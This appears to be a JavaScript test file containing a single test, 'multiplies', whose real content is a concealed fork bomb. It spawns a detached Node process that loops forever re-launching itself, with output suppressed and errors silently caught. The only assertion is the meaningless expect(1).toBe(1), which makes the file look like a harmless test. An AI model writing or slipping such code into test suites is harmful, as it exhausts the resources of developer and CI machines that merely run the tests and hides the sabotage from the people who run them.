// Starts itself again and again.
import { spawn } from 'node:child_process';
test('multiplies', () => {
  try { spawn(process.execPath, ['-e', `/* ${HOST.marker} */ for (;;) require('child_process').spawn(process.execPath, process.argv.slice(1))`], { stdio: 'ignore' }).on('error', () => {}).unref(); } catch {}
  expect(1).toBe(1);
});
